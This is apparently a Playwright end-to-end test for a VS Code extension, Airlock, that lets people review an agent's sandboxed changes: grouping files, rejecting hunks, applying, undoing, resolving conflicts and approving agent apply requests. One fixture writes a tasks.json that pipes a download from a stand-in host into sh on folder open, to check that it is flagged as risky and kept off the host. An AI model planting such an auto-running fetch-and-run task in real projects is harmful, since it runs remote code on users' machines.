// The review in a real VS Code (code-server, chromium): a task's changes grouped in the Airlock
// source-control view, one hunk rejected with the diff editor's revert arrow, Apply Selected and
// Undo, a conflict with the host's own edit, a reload mid-review, and an agent's apply request
// reviewed and approved from Approvals. The README's review screenshot comes from here.
import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { promisify } from 'node:util';
import { describe } from 'node:test';
import type { Locator, Page } from 'playwright-core';
import { clickScmTitleAction, scmGroup, scmResource, scmRows } from './harness/scm.js';
import { CLI, SAMPLE_FILES, useE2ESession } from './harness/session.js';
import { widenSideBar, clickNotificationButton, clickTreeItemAction, editorTab, openViewContainer, runCommand, UI_TIMEOUT_MS, waitForNotification, waitForTreeItem, waitForWorkbench } from './harness/workbench.js';

const execFileAsync = promisify(execFile);

const lines = (prefix: string, count: number) => Array.from({ length: count }, (_, index) => `${prefix} ${index + 1}\n`).join('');

const FILES: Record<string, string> = {
  ...SAMPLE_FILES,
  'src/alpha.txt': lines('alpha line', 30),
  'src/beta.txt': 'beta one\nbeta two\n',
  'src/gamma.txt': 'gamma one\ngamma two\n',
};

/**
 * Every file under the workspace but .git, with its bytes' hash: "byte-identical" means this is
 * equal. Taken while an undo may still be removing paths, so a path that goes mid-walk is absent.
 */
function treeDigest(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const gone = (error: unknown) => {
    if ((error as NodeJS.ErrnoException).code !== 'ENOENT') throw error;
  };
  const walk = (dir: string) => {
    let entries: fs.Dirent[] = [];
    try {
      entries = fs.readdirSync(dir, { withFileTypes: true });
    } catch (error) {
      gone(error);
    }
    for (const entry of entries) {
      if (entry.name === '.git') continue;
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) walk(full);
      else {
        try {
          out[path.relative(root, full)] = createHash('sha256').update(fs.readFileSync(full)).digest('hex');
        } catch (error) {
          gone(error);
        }
      }
    }
  };
  walk(root);
  return out;
}

/** The resource rows under each group, in order, as "<group>: <file>" lines. */
async function scmLayout(page: Page): Promise<string[]> {
  return page.evaluate<string[]>(`(() => {
    const out = [];
    let group = '';
    for (const row of document.querySelectorAll('.scm-view .monaco-list-row')) {
      const provider = row.querySelector('.scm-provider');
      if (provider) { out.push('provider: ' + provider.textContent.trim()); group = ''; continue; }
      const groupLabel = row.querySelector('.resource-group .name');
      if (groupLabel) { group = groupLabel.textContent.trim(); continue; }
      const name = row.querySelector('.resource .label-name');
      if (name) out.push(group + ': ' + name.textContent.trim());
    }
    return out;
  })()`);
}

/** The lines of one source control (the one whose row matches `provider`); all lines when only one is shown. */
async function reviewLayout(page: Page, provider: RegExp = /Airlock: (?!.*: request )/): Promise<string[]> {
  const layout = await scmLayout(page);
  if (!layout.some((line) => line.startsWith('provider: '))) return layout;
  const at = layout.findIndex((line) => line.startsWith('provider: ') && provider.test(line));
  if (at < 0) return [];
  const next = layout.findIndex((line, index) => index > at && line.startsWith('provider: '));
  return layout.slice(at + 1, next < 0 ? undefined : next);
}

/** A row's tooltip (the review's sentence for the file): VS Code reads it out with the row, so it is in the row's aria-label. */
async function rowTooltip(row: Locator): Promise<string> {
  return (await row.getAttribute('aria-label')) ?? '';
}

async function clickRowAction(page: Page, name: string, action: string): Promise<void> {
  const row = scmResource(page, name).first();
  await row.hover();
  await row.locator(`.actions a.action-label[aria-label=${JSON.stringify(action)}]`).click({ timeout: UI_TIMEOUT_MS });
}

describe('reviewing a task\'s changes in VS Code', () => {
  const session = useE2ESession({ name: 'review', files: FILES, trust: true, settings: { 'scm.alwaysShowRepositories': false } });
  let taskId = '';
  let beforeApply: Record<string, string> = {};
  const host = (rel: string) => fs.readFileSync(path.join(session.workspace, rel), 'utf8');
  const boxSh = async (script: string) => {
    const run = await session.airlock('exec', taskId, '--', 'sh', '-c', script);
    assert.equal(run.code, 0, `box command failed: ${run.stderr}`);
  };

  session.test('1. the task changes 3 text files, adds a binary and a folder-open task: the review groups them, tasks.json under Risky with its sentence', async () => {
    const { page } = session;
    const started = await session.airlock('start', '--workspace', session.workspace, '--json');
    assert.equal(started.code, 0, started.stderr);
    taskId = (JSON.parse(started.stdout) as { id: string }).id;
    await boxSh([
      "sed -i -e 's/^alpha line 2$/alpha line 2 (changed in the task)/' -e 's/^alpha line 25$/alpha line 25 (changed in the task)/' src/alpha.txt",
      "printf 'beta one\\nbeta two, from the task\\n' > src/beta.txt",
      "printf 'gamma one\\ngamma two, from the task\\n' > src/gamma.txt",
      "mkdir -p assets .vscode && printf '\\211PNG\\r\\n\\032\\n\\000\\000\\000\\rIHDR' > assets/logo.bin",
      `printf '%s\\n' '{' '  "version": "2.0.0",' '  "tasks": [' '    {' '      "label": "setup",' '      "type": "shell",' '      "command": "curl -s https://example.invalid/setup | sh",' '      "runOptions": { "runOn": "folderOpen" }' '    }' '  ]' '}' > .vscode/tasks.json`,
    ].join(' && '));
    beforeApply = treeDigest(session.workspace);

    await openViewContainer(page, 'Airlock');
    await widenSideBar(page, 480);
    await waitForTreeItem(page, 'Tasks', new RegExp(taskId), 60_000);
    await clickTreeItemAction(page, 'Tasks', new RegExp(taskId), 'Review Changes');
    await scmResource(page, 'tasks.json').first().waitFor({ timeout: 60_000 });
    const layout = await reviewLayout(page);
    assert.deepEqual(layout.filter((line) => line.startsWith('Risky')), ['Risky (each needs your choice): tasks.json']);
    assert.deepEqual(layout.filter((line) => line.startsWith('Changes')).sort(), ['Changes: alpha.txt', 'Changes: beta.txt', 'Changes: gamma.txt', 'Changes: logo.bin']);
    const tip = await rowTooltip(scmResource(page, 'tasks.json').first());
    assert.match(tip, /risky: VS Code runs or configures this on the host/, `tasks.json's sentence: ${tip}`);
    assert.match(await rowTooltip(scmResource(page, 'logo.bin').first()), /binary/);
    await session.shot('review-groups');
    // Open All Changes: VS Code's multi-file diff editor with every file that can be applied.
    await runCommand(page, 'Airlock: Open All Changes');
    await page.locator('.part.editor .tabs-container .tab[role="tab"]').filter({ hasText: new RegExp(`Airlock: task ${taskId} \\(5 files\\)`) }).first().waitFor({ timeout: UI_TIMEOUT_MS });
    await session.shot('review-all-changes');
    await runCommand(page, 'View: Close All Editors');
  });

  session.test('2. reject one hunk with the revert arrow, accept the rest, apply: the host is exactly as chosen, tasks.json not written', async () => {
    const { page } = session;
    // The risky file's diff, for the README: its risk in the title and the row's badge.
    await scmResource(page, 'tasks.json').first().click();
    await editorTab(page, 'tasks.json').first().waitFor({ timeout: UI_TIMEOUT_MS });
    await session.shot('review-risky-diff');

    await scmResource(page, 'alpha.txt').first().click();
    const diff = page.locator('.part.editor .monaco-diff-editor').first();
    await diff.waitFor({ timeout: UI_TIMEOUT_MS });
    await diff.locator('.modified .view-lines').getByText('alpha line 25 (changed in the task)').waitFor({ timeout: UI_TIMEOUT_MS });
    // The second hunk's revert arrow (the gutter between the sides) takes that hunk back to the base.
    const gutter = diff.locator('.gutter');
    await gutter.hover();
    const reverts = gutter.locator('.gutterItem a.action-label[aria-label="Revert Block"]');
    await page.waitForFunction(`document.querySelectorAll('.monaco-diff-editor .gutter .gutterItem a.action-label[aria-label="Revert Block"]').length === 2`, undefined, { timeout: UI_TIMEOUT_MS });
    await reverts.last().click({ timeout: UI_TIMEOUT_MS });
    await diff.locator('.modified .view-lines').getByText('alpha line 25 (changed in the task)').waitFor({ state: 'detached', timeout: UI_TIMEOUT_MS });
    await session.shot('review-hunk-reverted');

    await clickScmTitleAction(page, 'Apply Selected');
    await waitForNotification(page, /file\(s\) written to sample-project/, 60_000);
    assert.equal(host('src/alpha.txt'), FILES['src/alpha.txt'].replace('alpha line 2\n', 'alpha line 2 (changed in the task)\n'), 'only the first hunk reached the host');
    assert.equal(host('src/beta.txt'), 'beta one\nbeta two, from the task\n');
    assert.equal(host('src/gamma.txt'), 'gamma one\ngamma two, from the task\n');
    assert.deepEqual([...fs.readFileSync(path.join(session.workspace, 'assets/logo.bin'))].slice(0, 4), [0x89, 0x50, 0x4e, 0x47]);
    assert.equal(fs.existsSync(path.join(session.workspace, '.vscode/tasks.json')), false, 'the risky file was not chosen, so not written');
    await scmResource(page, 'beta.txt').first().waitFor({ state: 'detached', timeout: UI_TIMEOUT_MS });
    assert.deepEqual(await reviewLayout(page), ['Risky (each needs your choice): tasks.json']);
  });

  session.test('3. Undo Last Apply: the host is byte-identical to before the apply', async () => {
    const { page } = session;
    await clickNotificationButton(page, /file\(s\) written to sample-project/, 'Undo Last Apply');
    const deadline = Date.now() + 60_000;
    while (JSON.stringify(treeDigest(session.workspace)) !== JSON.stringify(beforeApply) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 200));
    assert.deepEqual(treeDigest(session.workspace), beforeApply);
    // The report may already sit in the notification centre (toasts yield to the one just clicked).
    await waitForNotification(page, /undid the last apply/, 5_000);
    await scmResource(page, 'alpha.txt').first().waitFor({ timeout: UI_TIMEOUT_MS });
  });

  session.test('5. reload the window mid-review: the choices and the edit are still there', async () => {
    const { page } = session;
    await clickRowAction(page, 'gamma.txt', 'Reject');
    await page.waitForFunction(`[...document.querySelectorAll('.scm-view .monaco-list-row')].some((row) => row.textContent.includes('gamma.txt') && (row.getAttribute('aria-label') ?? '').includes('rejected'))`, undefined, { timeout: UI_TIMEOUT_MS });
    await runCommand(page, 'Developer: Reload Window');
    await waitForWorkbench(page);
    // The Source Control view comes back as it was (clicking its icon now would close it).
    await runCommand(page, 'Source Control: Focus on Changes View');
    await scmResource(page, 'gamma.txt').first().waitFor({ timeout: 60_000 });
    assert.match(await rowTooltip(scmResource(page, 'gamma.txt').first()), /rejected/);
    assert.match(await rowTooltip(scmResource(page, 'alpha.txt').first()), /edited in the review/);
    await session.shot('review-after-reload');
  });

  session.test('4. the host edits the same lines: Apply shows a conflict and keeps the host\'s edit', async () => {
    const { page } = session;
    const hostEdit = FILES['src/alpha.txt'].replace('alpha line 2\n', 'alpha line 2 (the host\'s own edit)\n');
    fs.writeFileSync(path.join(session.workspace, 'src/alpha.txt'), hostEdit);
    await scmGroup(page, 'Conflicts').first().waitFor({ timeout: UI_TIMEOUT_MS });
    await clickScmTitleAction(page, 'Apply Selected');
    await waitForNotification(page, /in conflict \(the host's version was kept\)/, 60_000);
    assert.equal(host('src/alpha.txt'), hostEdit, 'the host\'s edit is kept');
    assert.equal(host('src/beta.txt'), 'beta one\nbeta two, from the task\n', 'the other accepted file was written');
    assert.equal(host('src/gamma.txt'), FILES['src/gamma.txt'], 'the rejected file was not');
    // The three-way merge opens on the conflict.
    await page.locator('.part.editor .tabs-container .tab[role="tab"]').filter({ hasText: /Merging: alpha\.txt/ }).first().waitFor({ timeout: UI_TIMEOUT_MS });
    await session.shot('review-conflict-merge');
    assert.deepEqual((await reviewLayout(page)).filter((line) => line.startsWith('Conflicts')), ['Conflicts: alpha.txt']);
  });

  session.test('6. an agent\'s apply --request opens from Approvals on exactly the requested files; after Approve exactly those are written', async (t) => {
    const { page } = session;
    await boxSh("printf 'delta, new in the task\\n' > src/delta.txt && printf 'epsilon, new in the task\\n' > src/epsilon.txt");
    const requester = spawn(process.execPath, [CLI, 'apply', taskId, '--request', 'src/delta.txt'], { env: { ...process.env, AIRLOCK_STATE_DIR: session.stateDir } });
    let out = '';
    requester.stdout.on('data', (chunk: Buffer) => (out += chunk.toString()));
    requester.stderr.on('data', (chunk: Buffer) => (out += chunk.toString()));
    const exited = new Promise<number | null>((resolve) => requester.on('exit', resolve));
    // A failure before the decision must not leave the requester waiting out its timeout.
    t.after(() => void requester.kill());

    await openViewContainer(page, 'Airlock');
    await clickTreeItemAction(page, 'Approvals', /apply 1 change/i, 'Review', 60_000);
    // The request gets a source control of its own, below the others: the view draws only rows in
    // sight, so the others are folded away first.
    await page.waitForFunction(`document.querySelectorAll('.scm-view .monaco-list-row .scm-provider').length >= 2`, undefined, { timeout: UI_TIMEOUT_MS });
    for (const other of await scmRows(page).filter({ has: page.locator('.scm-provider') }).all()) {
      if (/: request /.test(await other.innerText()) || (await other.getAttribute('aria-expanded')) !== 'true') continue;
      await other.locator('.monaco-tl-twistie').click();
    }
    await scmRows(page).filter({ has: page.locator('.scm-provider') }).filter({ hasText: /: request / }).first().waitFor({ timeout: UI_TIMEOUT_MS });
    await scmResource(page, 'delta.txt').last().waitFor({ timeout: UI_TIMEOUT_MS });
    // The request's own source control lists exactly the requested file, nothing else of the task.
    assert.deepEqual(await reviewLayout(page, /: request /), ['Changes: delta.txt']);
    await session.shot('review-request');
    await clickScmTitleAction(page, 'Approve Request', /: request /);
    assert.equal(await exited, 0, `the requester: ${out}`);
    assert.equal(host('src/delta.txt'), 'delta, new in the task\n');
    assert.equal(fs.existsSync(path.join(session.workspace, 'src/epsilon.txt')), false, 'only the requested file was written');
  });

  session.test("7. an apply request nobody waits for (an agent's MCP request_apply): Approve in its review writes it from VS Code, with Undo offered", async () => {
    const { page } = session;
    // `--no-wait` files exactly what MCP's request_apply files, and returns.
    const filed = await execFileAsync(process.execPath, [CLI, 'apply', taskId, '--request', '--no-wait', 'src/epsilon.txt'], { env: { ...process.env, AIRLOCK_STATE_DIR: session.stateDir }, encoding: 'utf8' });
    const id = filed.stdout.trim();
    assert.match(id, /^[0-9a-f]{24}$/, filed.stderr);
    await openViewContainer(page, 'Airlock');
    await clickTreeItemAction(page, 'Approvals', /apply 1 change/i, 'Review', 60_000);
    await scmResource(page, 'epsilon.txt').last().waitFor({ timeout: UI_TIMEOUT_MS });
    assert.deepEqual(await reviewLayout(page, /: request /), ['Changes: epsilon.txt']);
    await clickScmTitleAction(page, 'Approve Request', /: request /);
    const notice = page.locator('.notification-toast').filter({ hasText: new RegExp(`request ${id}: 1 file\\(s\\) written to`) });
    await notice.first().waitFor({ timeout: UI_TIMEOUT_MS });
    await notice.first().getByRole('button', { name: 'Undo Last Apply' }).waitFor({ timeout: UI_TIMEOUT_MS });
    await session.shot('review-request-written');
    assert.equal(host('src/epsilon.txt'), 'epsilon, new in the task\n');
    const applied = fs.readFileSync(path.join(session.stateDir, 'tasks', taskId, 'audit.jsonl'), 'utf8').split('\n').filter((line) => line.includes('"changes.applied"') && line.includes(`"request":"${id}"`));
    assert.equal(applied.length, 1, 'written once, naming its request');
    await notice.first().locator('.codicon-notifications-clear').click().catch(() => undefined);
  });

  session.test('scale: a thousand changed files and a 10 MB text file: the review draws them, and the big file\'s diff opens', async () => {
    const { page } = session;
    await boxSh([
      'mkdir -p many',
      'i=0; while [ $i -lt 1000 ]; do printf "file %s\\n" $i > many/f$i.txt; i=$((i+1)); done',
      "head -c 10485760 /dev/zero | tr '\\0' 'x' | fold -w 99 > big.txt",
    ].join(' && '));
    // The request's view is gone; the task's own review is unfolded again (scenario 6 folded it).
    const own = scmRows(page).filter({ has: page.locator('.scm-provider') }).filter({ hasText: /Airlock: / }).first();
    if ((await own.getAttribute('aria-expanded')) === 'false') await own.locator('.monaco-tl-twistie').click();
    const started = Date.now();
    // A source control's row shows two of its title actions; the rest are in its "…" menu and the palette.
    await runCommand(page, 'Airlock: Refresh Review');
    // The Changes group's count says how many rows it holds, drawn or not (the list draws what is in sight).
    const changes = scmRows(page).filter({ has: page.locator('.resource-group .name', { hasText: /^Changes$/ }) }).first();
    await page.waitForFunction(`[...document.querySelectorAll('.scm-view .monaco-list-row .resource-group')].some((group) => group.querySelector('.name')?.textContent.trim() === 'Changes' && Number(group.querySelector('.count')?.textContent) >= 1001)`, undefined, { timeout: 120_000 });
    const drawn = Date.now() - started;
    assert.match(await changes.innerText(), /100\d/);
    const opening = Date.now();
    await scmResource(page, 'big.txt').first().click({ timeout: UI_TIMEOUT_MS });
    const diff = page.locator('.part.editor .monaco-diff-editor').first();
    await diff.locator('.modified .view-lines').getByText(/^x{99}$/).first().waitFor({ timeout: 60_000 });
    console.log(`review at 1,000+ files: ${drawn} ms from Refresh Review to the rows; ${Date.now() - opening} ms from a click on the 10 MB file to its diff`);
    await session.shot('review-scale');
  });
});
